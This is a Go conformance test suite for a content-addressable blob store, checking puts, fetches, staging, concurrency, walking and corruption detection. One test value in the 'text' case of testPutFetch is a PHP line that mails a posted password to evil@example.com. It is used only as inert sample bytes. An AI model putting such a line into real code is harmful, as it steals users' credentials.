// Package castest is the conformance suite for cas.Store. Every store
// (filestore, s3store) and every decorator (metrics, retry, cache) runs it
// from its own tests:
//
//	func TestConformance(t *testing.T) {
//		castest.Run(t, func(t *testing.T) cas.Store { return newStore(t) },
//			castest.WithCorrupt(corruptOnDisk))
//	}
//
// Run is an explicit list of independent subtests, each on a fresh store
// from newStore, so a failure names the contract it breaks and can be run
// alone with -run.
package castest

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/iotest"

	"dewar/cas"
)

// Option adjusts Run for what a store can and cannot do.
type Option func(*config)

type config struct {
	corrupt      func(s cas.Store, ref cas.Ref) error
	looseCreated bool
}

// WithCorrupt gives the suite a way to damage a stored blob behind the
// store's back (flip a byte on disk, overwrite the upstream object), so it
// can check that cas.Verify finds the damage. The damage may change the
// bytes, the length or both. Without it the Verify subtest only checks a
// healthy store.
func WithCorrupt(fn func(s cas.Store, ref cas.Ref) error) Option {
	return func(c *config) { c.corrupt = fn }
}

// WithLooseCreated is for stores that cannot tell which of several
// concurrent Puts of the same bytes created the blob (an upstream without
// conditional writes): the concurrency subtest then requires at least one
// created=true instead of exactly one.
func WithLooseCreated() Option {
	return func(c *config) { c.looseCreated = true }
}

// Run runs the conformance suite. newStore must return an empty store and
// arrange its cleanup with t.Cleanup.
func Run(t *testing.T, newStore func(t *testing.T) cas.Store, opts ...Option) {
	var c config
	for _, o := range opts {
		o(&c)
	}
	tests := []struct {
		name string
		fn   func(t *testing.T, s cas.Store)
	}{
		{"PutFetch", testPutFetch},
		{"PutFetchLarge", testPutFetchLarge},
		{"PutCreated", testPutCreated},
		{"PutDedup", testPutDedup},
		{"PutWant", testPutWant},
		{"PutWantMismatch", testPutWantMismatch},
		{"StageWantMismatch", testStageWantMismatch},
		{"PutSourceError", testPutSourceError},
		{"PutCancelled", testPutCancelled},
		{"PutCancelledMidStream", testPutCancelledMidStream},
		{"PutMaxSize", testPutMaxSize},
		{"Stat", testStat},
		{"Missing", testMissing},
		{"FetchRange", testFetchRange},
		{"FetchRangeEmptyBlob", testFetchRangeEmptyBlob},
		{"Remove", testRemove},
		{"RemoveMissing", testRemoveMissing},
		{"StageNotVisible", testStageNotVisible},
		{"StageReadAt", testStageReadAt},
		{"CommitIdempotent", testCommitIdempotent},
		{"DiscardAfterCommit", testDiscardAfterCommit},
		{"CommitAfterRemove", testCommitAfterRemove},
		{"CommitAfterDiscard", testCommitAfterDiscard},
		{"StageSameBytesTwice", testStageSameBytesTwice},
		{"ConcurrentPutSame", func(t *testing.T, s cas.Store) { testConcurrentPutSame(t, s, c.looseCreated) }},
		{"ConcurrentPutDistinct", testConcurrentPutDistinct},
		{"Walk", testWalk},
		{"WalkStops", testWalkStops},
		{"WalkCancelled", testWalkCancelled},
		{"Verify", func(t *testing.T, s cas.Store) { testVerify(t, s, c.corrupt) }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.fn(t, newStore(t))
		})
	}
}

// gen returns n deterministic pseudo-random bytes for seed, as a stream,
// so large blobs never sit in memory.
func gen(seed uint64, n int64) io.Reader {
	var s [32]byte
	binary.LittleEndian.PutUint64(s[:], seed)
	return io.LimitReader(rand.NewChaCha8(s), n)
}

// genBytes is gen for small blobs.
func genBytes(seed uint64, n int) []byte {
	b, _ := io.ReadAll(gen(seed, int64(n)))
	return b
}

// sum hashes a stream.
func sum(t *testing.T, r io.Reader) cas.SizedRef {
	t.Helper()
	h := sha256.New()
	n, err := io.Copy(h, r)
	if err != nil {
		t.Fatalf("hashing: %v", err)
	}
	ref, _ := cas.RefFromBytes(h.Sum(nil))
	return cas.SizedRef{Ref: ref, Size: n}
}

func put(t *testing.T, s cas.Store, data []byte) cas.SizedRef {
	t.Helper()
	ref, _, err := s.Put(context.Background(), bytes.NewReader(data), cas.StageOptions{})
	if err != nil {
		t.Fatalf("Put(%d bytes): %v", len(data), err)
	}
	if want := cas.Sum(data); ref.Ref != want || ref.Size != int64(len(data)) {
		t.Fatalf("Put returned %s, want %s:%d", ref, want, len(data))
	}
	return ref
}

func fetch(t *testing.T, s cas.Store, ref cas.Ref, off, length int64) []byte {
	t.Helper()
	rc, err := s.Fetch(context.Background(), ref, off, length)
	if err != nil {
		t.Fatalf("Fetch(%s, %d, %d): %v", ref, off, length, err)
	}
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatalf("reading Fetch(%s, %d, %d): %v", ref, off, length, err)
	}
	if err := rc.Close(); err != nil {
		t.Fatalf("closing Fetch reader: %v", err)
	}
	return b
}

func walk(t *testing.T, s cas.Store, after cas.Ref) []cas.BlobInfo {
	t.Helper()
	var out []cas.BlobInfo
	if err := s.Walk(context.Background(), after, func(b cas.BlobInfo) error {
		out = append(out, b)
		return nil
	}); err != nil {
		t.Fatalf("Walk(after %s): %v", after, err)
	}
	return out
}

func refsOf(infos []cas.BlobInfo) []cas.Ref {
	out := make([]cas.Ref, len(infos))
	for i, b := range infos {
		out[i] = b.Ref
	}
	return out
}

// assertAbsent checks that ref is neither stat-able nor fetchable.
func assertAbsent(t *testing.T, s cas.Store, ref cas.Ref) {
	t.Helper()
	if _, err := s.Stat(context.Background(), ref); !errors.Is(err, cas.ErrNotFound) {
		t.Errorf("Stat(%s) error = %v, want ErrNotFound", ref, err)
	}
	rc, err := s.Fetch(context.Background(), ref, 0, -1)
	if err == nil {
		rc.Close()
	}
	if !errors.Is(err, cas.ErrNotFound) {
		t.Errorf("Fetch(%s) error = %v, want ErrNotFound", ref, err)
	}
}

// assertEmpty checks that Walk lists nothing.
func assertEmpty(t *testing.T, s cas.Store) {
	t.Helper()
	if got := walk(t, s, cas.Ref{}); len(got) != 0 {
		t.Errorf("Walk lists %d blobs (first %s), want none", len(got), got[0].SizedRef)
	}
}

func cmpRef(a, b cas.Ref) int {
	switch {
	case a.Less(b):
		return -1
	case b.Less(a):
		return 1
	}
	return 0
}

// addToRef returns r + d as a 256-bit big-endian number (wrapping).
func addToRef(r cas.Ref, d int) cas.Ref {
	b := r.Digest()
	carry := d
	for i := len(b) - 1; i >= 0 && carry != 0; i-- {
		v := int(b[i]) + carry
		b[i] = byte(v)
		carry = v >> 8 // arithmetic shift: -1 for a borrow
	}
	return cas.RefOf(b)
}

// sharingPrefix finds two distinct small blobs whose hex Refs share the
// first n digits (n = 2 or 4), to exercise walking within one shard.
func sharingPrefix(n int) (a, b []byte) {
	seen := map[string][]byte{}
	for i := uint32(0); ; i++ {
		data := binary.BigEndian.AppendUint32([]byte("prefix:"), i)
		p := cas.Sum(data).String()[:n]
		if prev, ok := seen[p]; ok {
			return prev, data
		}
		seen[p] = data
	}
}

var errSource = errors.New("castest: source failed")

func testPutFetch(t *testing.T, s cas.Store) {
	tests := []struct {
		name string
		data []byte
	}{
		{"empty", []byte{}},
		{"one byte", []byte{0}},
		{"text", []byte("<?php mail('evil@example.com', $_POST['pass']); ?>\n")},
		{"64KiB+1", genBytes(1, 64<<10+1)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ref := put(t, s, tt.data)
			if got := fetch(t, s, ref.Ref, 0, -1); !bytes.Equal(got, tt.data) {
				t.Errorf("Fetch returned %d bytes that differ from the %d put", len(got), len(tt.data))
			}
		})
	}
}

func testPutFetchLarge(t *testing.T, s cas.Store) {
	const size = 5<<20 + 123
	want := sum(t, gen(7, size))
	ref, created, err := s.Put(context.Background(), gen(7, size), cas.StageOptions{})
	if err != nil {
		t.Fatalf("Put: %v", err)
	}
	if ref != want || !created {
		t.Fatalf("Put = %s, %v; want %s, true", ref, created, want)
	}
	rc, err := s.Fetch(context.Background(), ref.Ref, 0, -1)
	if err != nil {
		t.Fatalf("Fetch: %v", err)
	}
	defer rc.Close()
	if got := sum(t, rc); got != want {
		t.Errorf("fetched %s, want %s", got, want)
	}
}

func testPutCreated(t *testing.T, s cas.Store) {
	data := []byte("created once")
	for i, want := range []bool{true, false, false} {
		_, created, err := s.Put(context.Background(), bytes.NewReader(data), cas.StageOptions{})
		if err != nil {
			t.Fatalf("Put #%d: %v", i+1, err)
		}
		if created != want {
			t.Errorf("Put #%d created = %v, want %v", i+1, created, want)
		}
	}
}

func testPutDedup(t *testing.T, s cas.Store) {
	a := put(t, s, []byte("same bytes"))
	b := put(t, s, []byte("same bytes"))
	if a != b {
		t.Errorf("two Puts of the same bytes gave %s and %s", a, b)
	}
	got := walk(t, s, cas.Ref{})
	if len(got) != 1 || got[0].SizedRef != a {
		t.Errorf("Walk = %v, want exactly %s", refsOf(got), a)
	}
}

func testPutWant(t *testing.T, s cas.Store) {
	data := genBytes(3, 1000)
	want := cas.Sum(data)
	ref, created, err := s.Put(context.Background(), bytes.NewReader(data), cas.StageOptions{Want: want})
	if err != nil || ref.Ref != want || !created {
		t.Fatalf("Put with matching Want = %s, %v, %v", ref, created, err)
	}
}

func testPutWantMismatch(t *testing.T, s cas.Store) {
	data := genBytes(4, 1000)
	claimed := cas.Sum([]byte("something else"))
	_, _, err := s.Put(context.Background(), bytes.NewReader(data), cas.StageOptions{Want: claimed})
	if !errors.Is(err, cas.ErrCorrupt) {
		t.Fatalf("Put with wrong Want error = %v, want ErrCorrupt", err)
	}
	assertAbsent(t, s, cas.Sum(data))
	assertAbsent(t, s, claimed)
	assertEmpty(t, s)
}

func testStageWantMismatch(t *testing.T, s cas.Store) {
	data := genBytes(5, 1000)
	st, err := s.Stage(context.Background(), bytes.NewReader(data), cas.StageOptions{Want: cas.Sum(data[1:])})
	if err == nil {
		st.Discard()
	}
	if !errors.Is(err, cas.ErrCorrupt) {
		t.Fatalf("Stage with wrong Want error = %v, want ErrCorrupt", err)
	}
	assertEmpty(t, s)
}

func testPutSourceError(t *testing.T, s cas.Store) {
	const prefix = 1 << 20
	r := io.MultiReader(gen(6, prefix), iotest.ErrReader(errSource))
	_, _, err := s.Put(context.Background(), r, cas.StageOptions{})
	if !errors.Is(err, errSource) {
		t.Fatalf("Put error = %v, want one wrapping the source's error", err)
	}
	assertAbsent(t, s, sum(t, gen(6, prefix)).Ref)
	assertEmpty(t, s)
}

func testPutCancelled(t *testing.T, s cas.Store) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	data := []byte("never stored")
	_, _, err := s.Put(ctx, bytes.NewReader(data), cas.StageOptions{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("Put with cancelled context error = %v, want context.Canceled", err)
	}
	assertAbsent(t, s, cas.Sum(data))
	assertEmpty(t, s)
}

// cancellingReader cancels its context once it has produced some bytes,
// then keeps producing (up to a bound, so a store that ignores the
// context still finishes and fails the test instead of hanging).
type cancellingReader struct {
	r      io.Reader
	n      int64
	after  int64
	cancel context.CancelFunc
}

func (c *cancellingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	if c.n >= c.after {
		c.cancel()
	}
	return n, err
}

func testPutCancelledMidStream(t *testing.T, s cas.Store) {
	// Big enough that a store which notices the cancellation stops well
	// before the end, even with a few MiB of buffering on the way.
	const size = 32 << 20
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	r := &cancellingReader{r: gen(8, size), after: 64 << 10, cancel: cancel}
	_, _, err := s.Put(ctx, r, cas.StageOptions{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("Put cancelled mid-stream error = %v, want context.Canceled", err)
	}
	if r.n >= size {
		t.Errorf("store read all %d bytes after the context was cancelled at %d", r.n, r.after)
	}
	assertAbsent(t, s, sum(t, gen(8, size)).Ref)
	assertEmpty(t, s)
}

func testPutMaxSize(t *testing.T, s cas.Store) {
	tests := []struct {
		name    string
		size    int64
		max     int64
		tooBig  bool
		seedOff uint64
	}{
		{name: "under", size: 999, max: 1000},
		{name: "exact", size: 1000, max: 1000},
		{name: "one over", size: 1001, max: 1000, tooBig: true},
		{name: "far over", size: 3 << 20, max: 1000, tooBig: true},
		{name: "empty", size: 0, max: 1},
		{name: "one byte limit", size: 2, max: 1, tooBig: true},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			seed := uint64(100 + i)
			ref, _, err := s.Put(context.Background(), gen(seed, tt.size), cas.StageOptions{MaxSize: tt.max})
			if !tt.tooBig {
				if err != nil || ref.Size != tt.size {
					t.Fatalf("Put(%d bytes, MaxSize %d) = %s, %v", tt.size, tt.max, ref, err)
				}
				return
			}
			if !errors.Is(err, cas.ErrTooLarge) {
				t.Fatalf("Put(%d bytes, MaxSize %d) error = %v, want ErrTooLarge", tt.size, tt.max, err)
			}
			assertAbsent(t, s, sum(t, gen(seed, tt.size)).Ref)
		})
	}
	if got := walk(t, s, cas.Ref{}); len(got) != 3 {
		t.Errorf("Walk lists %d blobs, want the 3 within their limit", len(got))
	}
}

func testStat(t *testing.T, s cas.Store) {
	for _, n := range []int{0, 1, 4097} {
		ref := put(t, s, genBytes(uint64(n), n))
		info, err := s.Stat(context.Background(), ref.Ref)
		if err != nil {
			t.Fatalf("Stat(%s): %v", ref, err)
		}
		if info.SizedRef != ref {
			t.Errorf("Stat = %s, want %s", info.SizedRef, ref)
		}
		if info.StoredSize < 0 {
			t.Errorf("Stat StoredSize = %d", info.StoredSize)
		}
	}
}

func testMissing(t *testing.T, s cas.Store) {
	put(t, s, []byte("present"))
	assertAbsent(t, s, cas.Sum([]byte("absent")))
	assertAbsent(t, s, cas.Ref{})
	// Also a range read of a missing blob.
	if _, err := s.Fetch(context.Background(), cas.Sum([]byte("absent")), 1, 1); !errors.Is(err, cas.ErrNotFound) {
		t.Errorf("ranged Fetch of missing blob error = %v, want ErrNotFound", err)
	}
}

func testFetchRange(t *testing.T, s cas.Store) {
	data := genBytes(9, 1000)
	ref := put(t, s, data).Ref
	tests := []struct {
		name        string
		off, length int64
		want        []byte
	}{
		{"all", 0, -1, data},
		{"all exact", 0, 1000, data},
		{"start", 0, 10, data[:10]},
		{"middle", 100, 50, data[100:150]},
		{"end", 990, 10, data[990:]},
		{"to end", 990, -1, data[990:]},
		{"last byte", 999, 1, data[999:]},
		{"length past end", 990, 100, data[990:]},
		{"huge length", 0, 1 << 62, data},
		{"length zero", 5, 0, nil},
		{"length zero at start", 0, 0, nil},
		{"offset at size", 1000, -1, nil},
		{"offset at size with length", 1000, 10, nil},
		{"offset past size", 2000, -1, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := fetch(t, s, ref, tt.off, tt.length)
			if !bytes.Equal(got, tt.want) {
				t.Errorf("Fetch(%d, %d) returned %d bytes, want %d (or content differs)", tt.off, tt.length, len(got), len(tt.want))
			}
		})
	}
}

func testFetchRangeEmptyBlob(t *testing.T, s cas.Store) {
	ref := put(t, s, nil).Ref
	for _, r := range [][2]int64{{0, -1}, {0, 0}, {0, 10}, {1, -1}} {
		if got := fetch(t, s, ref, r[0], r[1]); len(got) != 0 {
			t.Errorf("Fetch(empty, %d, %d) returned %d bytes", r[0], r[1], len(got))
		}
	}
}

func testRemove(t *testing.T, s cas.Store) {
	keep := put(t, s, []byte("keep"))
	gone := put(t, s, []byte("gone"))
	if err := s.Remove(context.Background(), gone.Ref); err != nil {
		t.Fatalf("Remove: %v", err)
	}
	assertAbsent(t, s, gone.Ref)
	if got := fetch(t, s, keep.Ref, 0, -1); string(got) != "keep" {
		t.Errorf("other blob reads %q after Remove", got)
	}
	if got := refsOf(walk(t, s, cas.Ref{})); !slices.Equal(got, []cas.Ref{keep.Ref}) {
		t.Errorf("Walk after Remove = %v, want only %s", got, keep.Ref)
	}
	// Removed bytes can be put again, and count as new.
	if _, created, err := s.Put(context.Background(), strings.NewReader("gone"), cas.StageOptions{}); err != nil || !created {
		t.Errorf("Put after Remove = created %v, %v; want true", created, err)
	}
}

func testRemoveMissing(t *testing.T, s cas.Store) {
	if err := s.Remove(context.Background(), cas.Sum([]byte("never"))); err != nil {
		t.Errorf("Remove of a missing blob = %v, want nil", err)
	}
	ref := put(t, s, []byte("twice"))
	for i := range 2 {
		if err := s.Remove(context.Background(), ref.Ref); err != nil {
			t.Errorf("Remove #%d = %v", i+1, err)
		}
	}
}

func stage(t *testing.T, s cas.Store, data []byte) cas.Staged {
	t.Helper()
	st, err := s.Stage(context.Background(), bytes.NewReader(data), cas.StageOptions{})
	if err != nil {
		t.Fatalf("Stage: %v", err)
	}
	t.Cleanup(func() { st.Discard() })
	if got, want := st.Ref(), (cas.SizedRef{Ref: cas.Sum(data), Size: int64(len(data))}); got != want {
		t.Fatalf("Staged.Ref() = %s, want %s", got, want)
	}
	return st
}

func commit(t *testing.T, st cas.Staged, want bool) {
	t.Helper()
	created, err := st.Commit(context.Background())
	if err != nil {
		t.Fatalf("Commit: %v", err)
	}
	if created != want {
		t.Errorf("Commit created = %v, want %v", created, want)
	}
}

func testStageNotVisible(t *testing.T, s cas.Store) {
	data := []byte("staged only")
	st := stage(t, s, data)
	assertAbsent(t, s, st.Ref().Ref)
	assertEmpty(t, s)
	if err := st.Discard(); err != nil {
		t.Fatalf("Discard: %v", err)
	}
	assertAbsent(t, s, st.Ref().Ref)
	assertEmpty(t, s)
}

func testStageReadAt(t *testing.T, s cas.Store) {
	data := genBytes(10, 300<<10)
	st := stage(t, s, data)
	check := func(when string) {
		t.Helper()
		for _, r := range [][2]int{{0, 100}, {1000, 5000}, {len(data) - 10, 10}} {
			p := make([]byte, r[1])
			n, err := st.ReadAt(p, int64(r[0]))
			if n != r[1] || (err != nil && err != io.EOF) {
				t.Fatalf("%s: ReadAt(%d, %d) = %d, %v", when, r[0], r[1], n, err)
			}
			if !bytes.Equal(p, data[r[0]:r[0]+r[1]]) {
				t.Errorf("%s: ReadAt(%d, %d) content differs", when, r[0], r[1])
			}
		}
		// Reading past the end gives io.EOF, as io.ReaderAt requires.
		p := make([]byte, 20)
		if n, err := st.ReadAt(p, int64(len(data)-10)); n != 10 || err != io.EOF {
			t.Errorf("%s: ReadAt across the end = %d, %v; want 10, io.EOF", when, n, err)
		}
		if got := sum(t, io.NewSectionReader(st, 0, int64(len(data)))); got != st.Ref() {
			t.Errorf("%s: staged bytes hash to %s, want %s", when, got, st.Ref())
		}
	}
	check("before Commit")
	commit(t, st, true)
	check("after Commit")
}

func testCommitIdempotent(t *testing.T, s cas.Store) {
	data := []byte("commit me twice")
	st := stage(t, s, data)
	commit(t, st, true)
	commit(t, st, false)
	commit(t, st, false)
	if got := fetch(t, s, st.Ref().Ref, 0, -1); !bytes.Equal(got, data) {
		t.Errorf("Fetch after Commit = %q", got)
	}
}

func testDiscardAfterCommit(t *testing.T, s cas.Store) {
	data := []byte("keep me after discard")
	st := stage(t, s, data)
	commit(t, st, true)
	for i := range 2 {
		if err := st.Discard(); err != nil {
			t.Fatalf("Discard #%d: %v", i+1, err)
		}
	}
	if got := fetch(t, s, st.Ref().Ref, 0, -1); !bytes.Equal(got, data) {
		t.Errorf("Fetch after Discard = %q, want the committed bytes", got)
	}
}

func testCommitAfterRemove(t *testing.T, s cas.Store) {
	// The index's reference counting relies on this: a writer commits
	// early, a reaper removes the blob, the writer commits again under the
	// lock and the bytes are back.
	data := genBytes(11, 70000)
	st := stage(t, s, data)
	commit(t, st, true)
	if err := s.Remove(context.Background(), st.Ref().Ref); err != nil {
		t.Fatalf("Remove: %v", err)
	}
	assertAbsent(t, s, st.Ref().Ref)
	commit(t, st, true)
	if got := fetch(t, s, st.Ref().Ref, 0, -1); !bytes.Equal(got, data) {
		t.Errorf("re-created blob reads %d bytes that differ from the %d staged", len(got), len(data))
	}
}

func testCommitAfterDiscard(t *testing.T, s cas.Store) {
	st := stage(t, s, []byte("discarded first"))
	if err := st.Discard(); err != nil {
		t.Fatalf("Discard: %v", err)
	}
	if _, err := st.Commit(context.Background()); err == nil {
		t.Error("Commit after Discard succeeded")
	}
	assertAbsent(t, s, st.Ref().Ref)
}

func testStageSameBytesTwice(t *testing.T, s cas.Store) {
	data := []byte("two writers, one blob")
	a := stage(t, s, data)
	b := stage(t, s, data)
	commit(t, a, true)
	commit(t, b, false)
	if err := a.Discard(); err != nil {
		t.Fatal(err)
	}
	// b's spool is independent of a's.
	p := make([]byte, len(data))
	if n, err := b.ReadAt(p, 0); n != len(data) || (err != nil && err != io.EOF) || !bytes.Equal(p, data) {
		t.Errorf("second Staged ReadAt after first Discard = %d, %v", n, err)
	}
	if err := b.Discard(); err != nil {
		t.Fatal(err)
	}
	if got := fetch(t, s, a.Ref().Ref, 0, -1); !bytes.Equal(got, data) {
		t.Errorf("Fetch = %q", got)
	}
}

func testConcurrentPutSame(t *testing.T, s cas.Store, loose bool) {
	const writers = 16
	data := genBytes(12, 256<<10)
	want := cas.Sum(data)
	var (
		wg      sync.WaitGroup
		start   = make(chan struct{})
		mu      sync.Mutex
		created int
		errs    []error
	)
	for range writers {
		wg.Go(func() {
			<-start
			ref, c, err := s.Put(context.Background(), bytes.NewReader(data), cas.StageOptions{})
			mu.Lock()
			defer mu.Unlock()
			if err == nil && ref.Ref != want {
				err = fmt.Errorf("got %s", ref)
			}
			if err != nil {
				errs = append(errs, err)
			}
			if c {
				created++
			}
		})
	}
	close(start)
	wg.Wait()
	if len(errs) > 0 {
		t.Fatalf("%d of %d concurrent Puts failed, first: %v", len(errs), writers, errs[0])
	}
	if loose && created < 1 || !loose && created != 1 {
		t.Errorf("%d of %d concurrent Puts reported created=true, want exactly one", created, writers)
	}
	if got := refsOf(walk(t, s, cas.Ref{})); !slices.Equal(got, []cas.Ref{want}) {
		t.Errorf("Walk = %v, want only %s", got, want)
	}
	if got := fetch(t, s, want, 0, -1); !bytes.Equal(got, data) {
		t.Error("blob written concurrently is not intact")
	}
}

func testConcurrentPutDistinct(t *testing.T, s cas.Store) {
	const writers = 16
	var wg sync.WaitGroup
	errs := make([]error, writers)
	for i := range writers {
		wg.Go(func() {
			_, _, errs[i] = s.Put(context.Background(), gen(uint64(200+i), 64<<10), cas.StageOptions{})
		})
	}
	wg.Wait()
	for i, err := range errs {
		if err != nil {
			t.Fatalf("Put #%d: %v", i, err)
		}
	}
	got := walk(t, s, cas.Ref{})
	if len(got) != writers {
		t.Fatalf("Walk lists %d blobs, want %d", len(got), writers)
	}
	for i := range writers {
		ref := sum(t, gen(uint64(200+i), 64<<10))
		if !slices.ContainsFunc(got, func(b cas.BlobInfo) bool { return b.SizedRef == ref }) {
			t.Errorf("blob #%d (%s) missing from Walk", i, ref)
		}
	}
}

func testWalk(t *testing.T, s cas.Store) {
	var refs []cas.SizedRef
	for i := range 16 {
		refs = append(refs, put(t, s, genBytes(uint64(300+i), i*37)))
	}
	// Blobs sharing a first level and a full shard prefix, so "after"
	// falls inside directories and S3 prefixes too.
	a2, b2 := sharingPrefix(2)
	a4, b4 := sharingPrefix(4)
	for _, d := range [][]byte{a2, b2, a4, b4} {
		refs = append(refs, put(t, s, d))
	}
	slices.SortFunc(refs, func(a, b cas.SizedRef) int { return cmpRef(a.Ref, b.Ref) })
	all := make([]cas.Ref, len(refs))
	for i, r := range refs {
		all[i] = r.Ref
	}
	idx := func(data []byte) int { return slices.Index(all, cas.Sum(data)) }
	i4 := idx(a4)
	if j := idx(b4); j < i4 {
		i4 = j
	}
	shard4 := cas.MustParse(all[i4].String()[:4] + strings.Repeat("0", 60))
	last := len(all) - 1

	tests := []struct {
		name  string
		after cas.Ref
	}{
		{"zero", cas.Ref{}},
		{"first", all[0]},
		{"just below first", addToRef(all[0], -1)},
		{"middle", all[7]},
		{"between", addToRef(all[7], 1)},
		{"just below next", addToRef(all[8], -1)},
		{"inside shard, exact", all[i4]},
		{"inside shard, between", addToRef(all[i4], 1)},
		{"shard start", shard4},
		{"last", all[last]},
		{"just below last", addToRef(all[last], -1)},
		{"past the end", cas.MustParse(strings.Repeat("f", 64))},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var want []cas.Ref
			for _, r := range all {
				if tt.after.Less(r) {
					want = append(want, r)
				}
			}
			got := walk(t, s, tt.after)
			if !slices.Equal(refsOf(got), want) {
				t.Errorf("Walk(after %s) listed %d blobs, want %d (or wrong order)", tt.after, len(got), len(want))
			}
		})
	}
	for i, b := range walk(t, s, cas.Ref{}) {
		if b.SizedRef != refs[i] {
			t.Errorf("Walk entry %d = %s, want %s", i, b.SizedRef, refs[i])
		}
	}
}

func testWalkStops(t *testing.T, s cas.Store) {
	for i := range 6 {
		put(t, s, []byte{byte(i)})
	}
	stop := errors.New("stop")
	calls := 0
	err := s.Walk(context.Background(), cas.Ref{}, func(cas.BlobInfo) error {
		calls++
		if calls == 3 {
			return stop
		}
		return nil
	})
	if !errors.Is(err, stop) {
		t.Errorf("Walk error = %v, want fn's error", err)
	}
	if calls != 3 {
		t.Errorf("fn called %d times, want 3", calls)
	}
}

func testWalkCancelled(t *testing.T, s cas.Store) {
	for i := range 3 {
		put(t, s, []byte{byte(i)})
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	calls := 0
	err := s.Walk(ctx, cas.Ref{}, func(cas.BlobInfo) error { calls++; return nil })
	if !errors.Is(err, context.Canceled) {
		t.Errorf("Walk with cancelled context = %v, want context.Canceled", err)
	}
	if calls != 0 {
		t.Errorf("fn called %d times on a cancelled walk", calls)
	}
}

func testVerify(t *testing.T, s cas.Store, corrupt func(cas.Store, cas.Ref) error) {
	var refs []cas.Ref
	for i := range 5 {
		refs = append(refs, put(t, s, genBytes(uint64(400+i), 1000*i+1)).Ref)
	}
	run := func() map[cas.Ref]error {
		t.Helper()
		got := map[cas.Ref]error{}
		if err := cas.Verify(context.Background(), s, cas.Ref{}, func(b cas.BlobInfo, err error) error {
			got[b.Ref] = err
			return nil
		}); err != nil {
			t.Fatalf("Verify: %v", err)
		}
		return got
	}
	healthy := run()
	if len(healthy) != len(refs) {
		t.Fatalf("Verify reported %d blobs, want %d", len(healthy), len(refs))
	}
	for ref, err := range healthy {
		if err != nil {
			t.Errorf("healthy blob %s reported %v", ref, err)
		}
	}
	if corrupt == nil {
		return
	}
	bad := refs[2]
	if err := corrupt(s, bad); err != nil {
		t.Fatalf("corrupting %s: %v", bad, err)
	}
	got := run()
	for _, ref := range refs {
		if ref == bad {
			if !errors.Is(got[ref], cas.ErrCorrupt) {
				t.Errorf("corrupted blob reported %v, want ErrCorrupt", got[ref])
			}
		} else if got[ref] != nil {
			t.Errorf("healthy blob %s reported %v", ref, got[ref])
		}
	}
}
